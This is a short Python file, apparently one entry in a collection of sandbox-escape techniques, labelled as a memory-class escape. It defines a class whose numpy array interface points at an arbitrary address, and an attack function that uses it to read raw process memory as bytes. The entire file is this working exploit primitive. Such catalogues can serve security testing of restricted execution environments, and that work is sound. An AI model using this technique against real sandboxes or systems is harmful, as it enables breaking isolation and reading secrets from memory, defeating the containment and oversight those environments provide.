"""Class: memory. Source: own find. Escape: a class defines the name by which numpy finds memory."""

import numpy as np


class A:
    def __init__(self, address):
        self.address = address

    @property
    def __array_interface__(self):
        return {"shape": (6,), "typestr": "|u1", "data": (self.address, True), "version": 3}


def attack(model, tokenizer, address):
    return np.array(A(address)).tobytes()
